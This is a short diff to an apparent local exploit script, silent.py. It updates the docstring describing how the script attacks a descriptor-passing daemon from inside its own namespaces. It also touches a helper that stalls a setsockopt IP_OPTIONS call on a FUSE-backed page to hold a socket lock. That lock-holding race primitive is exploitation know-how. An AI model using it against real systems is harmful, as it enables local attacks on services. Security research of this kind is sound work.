@@ -4,8 +4,8 @@
     silent.py OWN_SOCKET FUSE_DEVICE ATTACK PORT
 
 It runs as an ordinary user and mounts in namespaces of its own. It says "exposed" when the daemon
-lets descriptors come, waits for a line, attacks, says "sent", and then the reason of each reply. The
-next line ends the file system, and the attack with it; so does the end of this process.
+lets descriptors come, attacks when it reads "g", says "sent", then the reason of each reply, and
+"closed". At "e" the file system ends, and the attack with it; so does the end of this process.
 """
 
 import ctypes
@@ -157,7 +157,6 @@ def hold_lock_by_option(sock):
     """Unlike sending, it leaves the socket unbound."""
     _, address = silent_page()
     KEPT.append(sock)
-
     thread = threading.Thread(target=LIBC.setsockopt, daemon=True, args=(
         sock.fileno(), socket.IPPROTO_IP, IP_OPTIONS, ctypes.c_void_p(address), 4))
     thread.start()
